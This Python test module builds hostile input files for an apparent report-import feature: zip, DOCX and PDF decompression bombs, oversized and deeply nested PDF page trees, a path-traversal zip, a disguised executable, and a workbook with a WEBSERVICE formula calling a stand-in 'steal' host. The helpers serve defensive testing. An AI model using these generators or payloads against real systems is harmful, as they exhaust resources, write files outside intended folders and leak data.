"""Hostile documents built by the tests themselves: bombs, huge page trees, disguises."""

from __future__ import annotations

import io
import shutil
import zipfile
import zlib
from pathlib import Path

from tests.reports.importing.builders import minimal_pdf

_MIB = 1 << 20


def deflate_bomb(inflated_mb: int) -> bytes:
    """A valid zlib stream of `inflated_mb` MB of "0" that is about a thousand times smaller.

    Deflate cannot do better than about 1:1000, so the stream is built from one compressed
    megabyte repeated: a full flush byte-aligns each block and resets the window, which
    makes every block after the first identical. The checksum is computed for the total.
    """
    chunk = b"0" * _MIB
    compressor = zlib.compressobj(9)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()[:-4]  # the final empty block, without the checksum
    checksum = zlib.adler32(chunk)
    for _ in range(inflated_mb - 1):
        checksum = zlib.adler32(chunk, checksum)
    return first + block * (inflated_mb - 1) + end + checksum.to_bytes(4, "big")


def decompression_bomb_pdf(inflated_mb: int = 2048) -> bytes:
    """A one-page PDF whose content stream (FlateDecode) inflates to `inflated_mb` MB."""
    stream = deflate_bomb(inflated_mb)
    return minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
            b" /Resources << >> /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream",
        ],
        b"<< /Size 5 /Root 1 0 R >>",
    )


def wide_page_tree_pdf(kids: int = 2_000_000) -> bytes:
    """A page tree claiming ten million pages: one /Pages node with `kids` references."""
    references = b" 3 0 R" * kids
    return minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 10000000 /Kids [" + references + b" ] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ],
        b"<< /Size 4 /Root 1 0 R >>",
    )


def deep_page_tree_pdf(depth: int = 5000) -> bytes:
    """A page tree of `depth` nested /Pages nodes, each with a single kid."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for number in range(2, depth + 2):
        objects.append(
            b"<< /Type /Pages /Count 10000000 /Kids [%d 0 R] >>" % (number + 1)
        )
    objects.append(b"<< /Type /Page /MediaBox [0 0 595 842] >>")
    return minimal_pdf(objects, b"<< /Size %d /Root 1 0 R >>" % (len(objects) + 1))


def executable() -> bytes:
    """A real ELF program (this machine's `true`)."""
    path = shutil.which("true") or "/bin/true"
    return Path(path).read_bytes()


def zip_bomb(unpacked_mb: int) -> bytes:
    """A zip archive with one text member of `unpacked_mb` MB of zeros (small packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("report.txt", "w", force_zip64=True) as member:
            chunk = b"0" * _MIB
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buffer.getvalue()


def docx_bomb(unpacked_mb: int) -> bytes:
    """A DOCX-shaped zip whose word/document.xml unpacks to `unpacked_mb` MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b" " * _MIB
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buffer.getvalue()


def many_entries_zip(entries: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for i in range(entries):
            archive.writestr(f"r{i}.txt", "一、总体情况")
    return buffer.getvalue()


def traversal_zip() -> bytes:
    """Members whose names climb out of any folder they might be unpacked into."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../escape.txt", "一、总体情况")
        archive.writestr("/tmp/absolute-escape.txt", "一、总体情况")
    return buffer.getvalue()


def formula_workbook() -> bytes:
    """An ordinary workbook (not the system's template) with formulas and an external call."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "表三"
    sheet["A1"] = "一、本年新收政府信息公开申请数量"
    sheet["B1"] = "=1+1"
    sheet["B2"] = '=WEBSERVICE("http://example.invalid/steal")'
    sheet["B3"] = "=SUM(B1:B2)"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
